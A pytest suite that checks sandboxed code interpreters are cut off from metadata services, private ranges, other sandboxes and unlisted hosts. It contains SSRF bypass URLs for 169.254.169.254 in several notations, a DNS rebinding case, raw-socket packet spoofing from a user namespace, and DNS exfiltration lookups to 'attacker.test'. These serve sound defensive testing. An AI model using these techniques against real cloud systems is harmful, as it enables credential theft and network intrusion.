"""PUBLIC mode: the internet and nothing else, from inside real sandboxes, in an internet of namespaces.

Every address behind the router answers, forbidden ones too: what is refused is refused by the rules.
"""

import ipaddress
import json
import secrets
import sys
from collections.abc import Iterator
from typing import Any

import pytest

from tests import internet as net
from tests.internet import Internet
from tests.service import Service, Session, service
from tests.waiting import wait_until


@pytest.fixture(scope="module")
def internet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Internet]:
    with net.internet(tmp_path_factory.mktemp("internet")) as made:
        yield made


@pytest.fixture(scope="module")
def networked(tmp_path_factory: pytest.TempPathFactory, internet: Internet) -> Iterator[Service]:
    settings = {
        "FUMEHOOD_UPLINK_NAMESPACE": internet.router,
        "FUMEHOOD_RESOLVERS": net.RESOLVER,
        "FUMEHOOD_PUBLIC_ALLOW": f"{net.ALLOWED_PRIVATE}:8080 .internal.test:443",
    }
    with service(tmp_path_factory.mktemp("networked") / "data", settings) as running:
        yield running


def interpreter(server: Service, name: str, mode: str = "PUBLIC", **parameters: Any) -> str:
    """A new code interpreter of that mode."""
    control = server.client("bedrock-agentcore-control")
    made = control.create_code_interpreter(name=name, networkConfiguration={"networkMode": mode}, **parameters)
    return made["codeInterpreterId"]


@pytest.fixture(scope="module")
def public(networked: Service) -> Iterator[Session]:
    session = Session(networked.client(), interpreter(networked, "public"), sessionTimeoutSeconds=3600)
    yield session
    session.stop()


def printed(session: Session, code: str) -> str:
    """What code prints in the session."""
    result = session.run(code)["structuredContent"]
    assert result["exitCode"] == 0, result
    return result["stdout"].strip()


_TRY = """
import socket, time
def attempt(host, port, kind):
    began = time.monotonic()
    family = socket.AF_INET6 if ':' in host else socket.AF_INET
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(8)
            s.connect((host, port))
            s.send(b'GET / HTTP/1.0\\r\\n\\r\\n')
            return 'reached' if s.recv(100) else 'closed'
    except TimeoutError: return 'a black hole'
    except OSError as error: return f'refused in {time.monotonic() - began:.1f}: {error}'
"""


def attempt(session: Session, host: str, port: int, kind: str = "tcp") -> str:
    """What becomes of a connection, or of a datagram and its answer."""
    kind = {"tcp": "socket.SOCK_STREAM", "udp": "socket.SOCK_DGRAM"}[kind]
    return printed(session, f"{_TRY}\nprint(attempt({host!r}, {port}, {kind}))")


@pytest.mark.parametrize("kind", ["tcp", "udp"])
def test_the_internet_is_reached(public: Session, kind: str) -> None:
    assert attempt(public, net.WEB, 80, kind) == "reached"


def test_names_of_the_internet_resolve(public: Session) -> None:
    assert printed(public, "import socket; print(socket.gethostbyname('web.test'))") == net.WEB


_FORBIDDEN = {
    "this machine, by the address of its interface": (net.ROUTER, 8800),
    "the next machine's service on the link": ("192.0.0.1", 8800),
    "a private address (10/8)": (net.PRIVATE, 80),
    "a private address (172.16/12)": ("172.17.0.1", 8080),
    "a private address (192.168/16)": ("192.168.7.7", 80),
    "carrier-grade NAT": ("100.64.0.1", 80),
    "the metadata service": ("169.254.169.254", 80),
    "the container metadata service": ("169.254.170.2", 80),
    "a link-local address": ("169.254.1.1", 443),
    "address zero": ("0.0.0.8", 80),
    "a documentation address": ("192.0.2.7", 80),
    "a benchmark address": ("198.18.0.1", 80),
    "a 6to4 relay": ("192.88.99.1", 80),
    "a reserved address": ("240.0.0.1", 80),
    "a private address on the port that another has open": (net.PRIVATE, 8080),
    "the address an operator allows, on another port": (net.ALLOWED_PRIVATE, 80),
    "a name service over TLS at a private address": (net.PRIVATE, 853),
    "a name service at a private address": (net.PRIVATE, 53),
    "a private address, mapped into IPv6": (f"::ffff:{net.PRIVATE}", 80),
    "the metadata service, mapped into IPv6": ("::ffff:169.254.169.254", 80),
    "the metadata service of IPv6": ("fd00:ec2::254", 80),
    "the metadata service through NAT64": ("64:ff9b::a9fe:a9fe", 80),
    "the metadata service through 6to4": ("2002:a9fe:a9fe::1", 80),
    "a private address through NAT64": ("64:ff9b::a14:5", 80),
    "a public address of IPv6": ("2001:4860:4860::8888", 53),
    "this machine, by IPv6": ("2001:db8::1", 8800),
    "a link-local address of IPv6": ("fe80::1", 80),
    "a unique local address of IPv6": ("fd12:3456::1", 80),
}


@pytest.mark.parametrize("kind", ["tcp", "udp"])
@pytest.mark.parametrize("target", _FORBIDDEN.values(), ids=_FORBIDDEN)
def test_is_refused_at_once(public: Session, internet: Internet, target: tuple[str, int], kind: str) -> None:
    before = len(internet.arrivals())
    said = attempt(public, *target, kind)
    assert said.startswith(("refused in 0", "refused in 1")), said
    assert len(internet.arrivals()) == before


def test_what_is_refused_would_be_there_if_nothing_refused_it(internet: Internet) -> None:
    """The control: the same addresses, tried from the machine itself."""
    # The kernel itself sends nothing to reserved addresses; a name service answers only what is asked of it.
    targets = [
        (host, port)
        for host, port in _FORBIDDEN.values()
        if ":" not in host and host[:2] not in ("0.", "24") and port != 53
    ]
    code = f"{_TRY}\nfor host, port in {targets!r}: print(host, port, attempt(host, port, socket.SOCK_STREAM))"
    tried = internet.command(sys.executable, "-c", code).splitlines()
    assert tried == [f"{host} {port} reached" for host, port in targets]
    # And this machine's own IPv6, and that beyond, answer.
    for host in ("2001:db8::1", "2001:4860:4860::8888", "fd00:ec2::254"):
        said = internet.command(sys.executable, "-c", f"{_TRY}\nprint(attempt({host!r}, 8800, socket.SOCK_STREAM))")
        assert said.strip() == "reached", host


def test_several_at_once_are_never_reached(public: Session, internet: Internet) -> None:
    """Broadcast and multicast: a connection fails at once, and no datagram of it crosses the machine."""
    mark = b"to-everybody-%s" % secrets.token_hex(8).encode()
    code = f"""
import socket
for host in ('224.0.0.1', '239.255.255.250', '255.255.255.255', '192.0.0.7', '11.0.0.255'):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try: print(s.sendto({mark!r}, (host, 5353)))
        except OSError as error: print(error)
with socket.socket() as s:
    s.settimeout(8)
    try: s.connect(('224.0.0.1', 80))
    except TimeoutError: print('a black hole')
    except OSError as error: print('refused', error)
"""
    with net.Capture(internet.router) as capture:
        assert printed(public, code).splitlines()[-1].startswith("refused")
        _send_control(internet, capture, mark + b"-control")
    there = [packet for packet in capture.with_mark(mark) if mark + b"-control" not in packet]
    # To what may be an ordinary address, for all that a sandbox knows, it goes out, as on any network.
    assert [packet for packet in there if bytes([11, 0, 0, 255]) not in packet] == []


def _send_control(internet: Internet, capture: net.Capture, mark: bytes) -> None:
    """Have a packet of the router's own cross it, and wait until the capture has it."""
    code = f"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({mark!r}, ({net.WEB!r}, 9))"
    internet.command(sys.executable, "-c", code)
    wait_until(lambda: capture.with_mark(mark), "the control packet")


_NOTATIONS = {
    "decimal": "http://2852039166/latest/meta-data/",
    "hexadecimal": "http://0xa9fea9fe/latest/meta-data/",
    "octal": "http://0251.0376.0251.0376/latest/meta-data/",
    "short": "http://169.254.43518/latest/meta-data/",
    "mapped into IPv6": "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "mapped, in hexadecimal": "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "by a name": "http://metadata.test/latest/meta-data/",
    "with credentials in the address": "http://web.test@169.254.169.254/latest/meta-data/",
}


@pytest.mark.parametrize("url", _NOTATIONS.values(), ids=_NOTATIONS)
def test_the_metadata_service_is_refused_in_every_notation(public: Session, internet: Internet, url: str) -> None:
    before = len(internet.arrivals())
    result = public.sh(f"curl -sS --max-time 8 '{url}'")["structuredContent"]
    assert (result["stdout"], result["exitCode"] not in (0, 28)) == ("", True), result
    assert [each for each in internet.arrivals()[before:] if each["port"] == 80] == []


@pytest.mark.parametrize("name", ["private.test", "metadata.test", "loopback.test", "alias.test"])
def test_names_of_forbidden_addresses_are_not_told(public: Session, name: str) -> None:
    code = f"""
import socket
try: print(socket.getaddrinfo({name!r}, 80))
except OSError as error: print('refused', error)
"""
    assert printed(public, code).startswith("refused")


def test_of_several_addresses_the_forbidden_ones_are_left_out(public: Session) -> None:
    code = "import socket; print(sorted({each[4][0] for each in socket.getaddrinfo('mixed.test', 80)}))"
    assert printed(public, code) == str([net.WEB])


def test_a_name_that_is_bound_anew_leads_nowhere(public: Session) -> None:
    """Rebinding: the first answer is public and the next private; the address itself is refused too."""
    code = """
import socket
print(socket.gethostbyname('rebind.test'))
try: print(socket.gethostbyname('rebind.test'))
except OSError as error: print('refused', error)
"""
    first, second = printed(public, code).splitlines()
    assert (first, second.split()[0]) == (net.WEB, "refused")
    assert attempt(public, net.PRIVATE, 80).startswith("refused")


_QUERY = """
import socket, struct, os
def query(name, kind, over='udp', server='192.0.0.1', port=53):
    wire = os.urandom(2) + struct.pack('>HHHHH', 256, 1, 0, 0, 0)
    wire += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM if over == 'udp' else socket.SOCK_STREAM) as s:
        s.settimeout(8)
        s.connect((server, port))
        s.send(wire if over == 'udp' else struct.pack('>H', len(wire)) + wire)
        answer = s.recv(65535)
        while over != 'udp' and len(answer) < 2 + struct.unpack('>H', answer[:2])[0]: answer += s.recv(65535)
    answer = answer if over == 'udp' else answer[2:]
    return answer[3] & 15, struct.unpack('>H', answer[6:8])[0], bool(answer[2] & 2), len(answer)
"""
_KINDS = {
    "A": ("web.test", 1, (0, 1)),
    "TXT": ("big.test", 16, (0, 1)),
    "AAAA, of which there is none inside": ("web.test", 28, (0, 0)),
    "HTTPS, which may hold addresses": ("web.test", 65, (0, 0)),
    "ANY": ("web.test", 255, (5, 0)),
    "a zone transfer": ("web.test", 252, (5, 0)),
    "the name of a private address": ("5.0.20.10.in-addr.arpa", 12, (5, 0)),
    "the name of a metadata address": ("254.169.254.169.in-addr.arpa", 12, (5, 0)),
    "a name that is not there": ("nobody.example", 1, (3, 0)),
}


@pytest.mark.parametrize("over", ["udp", "tcp"])
@pytest.mark.parametrize(("name", "kind", "expected"), _KINDS.values(), ids=_KINDS)
def test_the_resolver_answers(public: Session, name: str, kind: int, expected: tuple[int, int], over: str) -> None:
    code = f"{_QUERY}\nprint(query({name!r}, {kind}, {over!r})[:2])"
    assert printed(public, code) == str(expected)


def test_an_answer_that_no_datagram_holds_comes_over_tcp(public: Session) -> None:
    code = f"{_QUERY}\nprint(query('huge.test', 16)[1:3], query('huge.test', 16, 'tcp')[1:3])"
    assert printed(public, code) == "(0, True) (20, False)"


def test_name_services_of_the_internet_are_traffic_like_any_other(public: Session) -> None:
    code = f"{_QUERY}\nprint(*(query('web.test', 1, over, {net.WEB!r})[:2] for over in ('udp', 'tcp')))"
    assert printed(public, code) == "(0, 1) (0, 1)"


def test_a_flood_of_queries_is_refused_and_the_resolver_goes_on(public: Session) -> None:
    code = f"""{_QUERY}
import time
refused = 0
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(3)
    s.connect(('192.0.0.1', 53))
    for number in range(3000):
        name = b'n%04d' % number
        s.send(b'ab' + struct.pack('>HHHHH', 256, 1, 0, 0, 0) + b'\\x05' + name + b'\\x04test\\0\\0\\x01\\0\\x01')
        if number % 20 == 19: time.sleep(0.001)
    try:
        while True: refused += s.recv(2000)[3] & 15 == 5
    except TimeoutError: pass
print(refused > 100, query('web.test', 1)[:2])
"""
    assert printed(public, code) == "True (0, 1)"


def test_the_log_says_which_session_was_refused_which_name_and_why(public: Session, networked: Service) -> None:
    name = f"{secrets.randbelow(200)}.{secrets.randbelow(200)}.20.10.in-addr.arpa"
    # The flood before this has used up the lines of a while.
    logged: list[dict[str, Any]] = []

    def is_logged() -> bool:
        printed(public, f"{_QUERY}\nprint(query({name!r}, 12)[:2])")
        lines = (json.loads(line) for line in networked.log.read_text().splitlines() if line.startswith("{"))
        logged[:] = [line for line in lines if line["event"] == "name_refused" and line["name"] == name]
        return bool(logged)

    wait_until(is_logged, "the refusal is in the log", 60)
    assert (logged[0]["session"], logged[0]["rule"]) == (public.id, "the name of a forbidden address")
    assert logged[0]["left_out"] >= 0


def test_broken_queries_change_nothing(public: Session) -> None:
    code = f"""{_QUERY}
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.connect(('192.0.0.1', 53))
    loop = b'ab\\x01\\0\\0\\x01' + b'\\0' * 6 + b'\\xc0\\x0c' * 20
    for wire in (b'', b'x', b'\\0' * 12, b'\\xff' * 12, os.urandom(600), b'\\0' * 5000, loop):
        s.send(wire)
print(query('web.test', 1)[:2])
"""
    assert printed(public, code) == "(0, 1)"


def test_the_files_and_the_environment_say_that_there_is_a_network(public: Session) -> None:
    assert public.sh("cat /etc/resolv.conf")["structuredContent"]["stdout"].split()[:2] == ["nameserver", "192.0.0.1"]
    environment = public.sh("env")["structuredContent"]["stdout"]
    assert "there-is-no-network" not in environment
    assert public.sh("echo nameserver 11.66.6.66 > /etc/resolv.conf")["structuredContent"]["exitCode"] != 0


@pytest.mark.parametrize(
    "code",
    [
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)",
        "socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)",
        "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)",
        "socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x300)",
        "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)",
        "socket.socket().setsockopt(socket.SOL_SOCKET, 25, b'eth0\\0') or socket.socket(40, 1)",
    ],
)
def test_user_code_has_no_raw_sockets(public: Session, code: str) -> None:
    said = printed(public, f"import socket\ntry: {code}; print('made')\nexcept OSError as error: print('refused')")
    assert said == "refused"


_FORGE = """
import ctypes, os, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
def checksum(data):
    total = sum(struct.unpack(f'>{len(data) // 2}H', data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff
def packet(source, to, mark):
    udp = struct.pack('>HHHH', 4444, 53, 8 + len(mark), 0) + mark
    head = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 7, 0, 64, 17, 0,
                       socket.inet_aton(source), socket.inet_aton(to))
    return head[:10] + struct.pack('>H', checksum(head)) + head[12:] + udp
def forge(sent):
    made = 0
    for source, to, mark in sent:
        for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_DGRAM)):
            try:
                with socket.socket(family, kind, socket.IPPROTO_RAW if family == socket.AF_INET else 8) as s:
                    if family == socket.AF_INET:
                        s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
                        s.sendto(packet(source, to, mark.encode()), (to, 0))
                    else:
                        s.sendto(packet(source, to, mark.encode()), ('eth0', 0x800, 0, 0, b'\\xff' * 6))
                    made += 1
            except OSError: pass
    return made
child = os.fork()
if child == 0:
    assert libc.unshare(0x10000000) == 0
    for kind, own in (('uid', 1000), ('gid', 1000)):
        with open(f'/proc/self/{kind}_map', 'w') as file: file.write(f'0 {own} 1')
    os.write(1, str(forge(SENT)).encode())
    os._exit(0)
_, _ = os.waitpid(child, 0)
"""


def test_a_user_namespace_forges_no_packet_that_gets_out(public: Session, internet: Internet) -> None:
    """In one of its own user code may have raw sockets; the control is the same mark sent as it may."""
    mark = f"forged{secrets.token_hex(6)}"
    sent = [(source, net.WEB, mark) for source in ("11.66.6.66", net.ROUTER, "192.0.0.1", "127.0.0.1", "100.64.0.9")]
    sent += [("192.0.0.2", to, mark) for to in (net.PRIVATE, "169.254.169.254", "192.0.0.1", "100.64.0.9")]
    with net.Capture(internet.router) as capture:
        printed(public, _FORGE.replace("SENT", repr(sent)))
        _send_control(internet, capture, b"control-of-forging")
        assert capture.with_mark(mark.encode()) == []
        send = f"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'{mark}', ({net.WEB!r}, 53))"
        printed(public, send)
        wait_until(lambda: capture.with_mark(mark.encode()), "the mark, sent without forging")


def test_user_code_cannot_change_its_network(public: Session) -> None:
    for command in ("ip addr add 11.0.0.9/24 dev eth0", "ip route add 10.0.0.0/8 via 192.0.0.1", "nft list ruleset"):
        assert public.sh(command)["structuredContent"]["exitCode"] != 0


_PING = """
import socket, struct
def ping(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(3)
        body = b'\\x08\\0' + struct.pack('>HHH', 0, 7, 1) + b'mark'
        total = sum(struct.unpack('>6H', body)); total = (total >> 16) + (total & 0xffff)
        s.connect((host, 0)); s.send(body[:2] + struct.pack('>H', ~(total + (total >> 16)) & 0xffff) + body[4:])
        try: return 'answered' if s.recv(100)[:1] == b'\\0' else 'refused'
        except OSError: return 'refused'
"""


@pytest.mark.parametrize("host", [net.ROUTER, net.PRIVATE, "169.254.169.254", "100.64.0.1"])
def test_no_echo_comes_from(public: Session, host: str) -> None:
    assert printed(public, f"{_PING}\nprint(ping({net.WEB!r}), ping({host!r}))") == "answered refused"


def test_sandboxes_do_not_reach_each_other(networked: Service, public: Session, internet: Internet) -> None:
    """The other's addresses, on either side of its slot, on a port that it listens on and on its resolver's."""
    other = Session(networked.client(), public.interpreter)
    try:
        serve = "import socket; s = socket.create_server(('0.0.0.0', 8088)); print(s.getsockname())"
        assert "8088" in printed(other, serve)
        ends = [line.split() for line in internet.command("ip", "-br", "-4", "addr").splitlines() if "/31" in line]
        assert len(ends) >= 2
        for end in ends:
            machine = ipaddress.ip_address(end[2].partition("/")[0])
            for address in (machine, machine + 1):
                for port in (8088, 53):
                    assert attempt(public, str(address), port).startswith("refused"), address
        assert attempt(public, "192.0.0.2", 8088).startswith("refused")
    finally:
        other.stop()


def test_the_operator_allows_an_address_and_a_domain(public: Session) -> None:
    assert attempt(public, net.ALLOWED_PRIVATE, 8080) == "reached"
    code = "import socket; print(socket.gethostbyname('granted.internal.test'))"
    assert attempt(public, "10.20.0.77", 443).startswith("refused")
    assert printed(public, code) == "10.20.0.77"
    assert attempt(public, "10.20.0.77", 443) == "reached"
    assert attempt(public, "10.20.0.77", 80).startswith("refused")


def test_nothing_outside_reaches_a_sandbox(public: Session, internet: Internet) -> None:
    printed(public, "import socket; s = socket.create_server(('0.0.0.0', 8099)); print(s.getsockname())")
    for end in internet.command("ip", "-br", "-4", "addr").splitlines():
        if "/31" in end:
            slot = ipaddress.ip_address(end.split()[2].partition("/")[0]) + 1
            code = f"{_TRY}\nprint(attempt({str(slot)!r}, 8099, socket.SOCK_STREAM))"
            # The slot drops what nobody inside asked for: to the machine it is as if nobody were there.
            assert "reached" not in internet.command(sys.executable, "-c", code)


def test_an_interpreters_list_allows_only_what_is_on_it(networked: Service, internet: Internet) -> None:
    allow = {"fumehood:allow": "web.test:80 11.5.0.0/16:443 private.test 10.20.0.0/16"}
    session = Session(networked.client(), interpreter(networked, "listed", tags=allow))
    try:
        assert attempt(session, net.WEB, 80).startswith("refused")
        assert printed(session, "import socket; print(socket.gethostbyname('web.test'))") == net.WEB
        assert attempt(session, net.WEB, 80) == "reached"
        for host, port in ((net.WEB, 443), (net.ATTACKER, 80), ("11.5.0.7", 80), (net.PRIVATE, 80), (net.ROUTER, 8800)):
            assert attempt(session, host, port).startswith("refused"), host
        assert attempt(session, "11.5.0.7", 443) == "reached"
        before = len(internet.arrivals())
        for name in ("attacker.test", "x.web.test", "secret-data.attacker.test", "private.test"):
            code = f"import socket\ntry: print(socket.gethostbyname({name!r}))\nexcept OSError: print('refused')"
            assert printed(session, code) == "refused"
        # Not even the question leaves for a name that is not on the list.
        asked = [each["data"] for each in internet.arrivals()[before:] if each["port"] == 53]
        assert [each for each in asked if "attacker" in each or "x\x03web" in each] == []
        for over in ("udp", "tcp"):
            code = f"{_QUERY}\ntry: print(query('web.test', 1, {over!r}, '11.8.8.8'))\nexcept OSError: print('refused')"
            assert printed(session, code) == "refused"
    finally:
        session.stop()


def test_no_packet_leaves_a_sandbox_without_network(networked: Service, internet: Internet) -> None:
    """Nor is there an interface on the machine for it; the control is the same mark from PUBLIC."""
    mark = f"fumehood{secrets.token_hex(6)}"
    hosts = [net.WEB, net.RESOLVER, "192.0.0.1", net.ROUTER, "169.254.169.254", "224.0.0.1", "2001:db8::1"]
    code = f"""
import socket
def spill():
    for host in {hosts!r}:
        for port in (53, 80, 853):
            for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
                try:
                    with socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, kind) as s:
                        s.settimeout(2); s.connect((host, port)); s.send(b'{mark}')
                except OSError: pass
    try: socket.gethostbyname('{mark}.attacker.test')
    except OSError: pass
spill()
"""
    session = Session(networked.client())
    try:
        assert printed(session, "import socket; print([name for _, name in socket.if_nameindex()])") == "['lo']"
        with net.Capture(internet.router) as capture:
            session.run(code)
            _send_control(internet, capture, b"control-of-sandbox")
        assert capture.with_mark(mark.encode()) == []
        loud = Session(networked.client(), interpreter(networked, "loud"))
        with net.Capture(internet.router) as capture:
            loud.run(code)
            wait_until(lambda: capture.with_mark(mark.encode()), "the same, from a sandbox with a network")
        loud.stop()
    finally:
        session.stop()
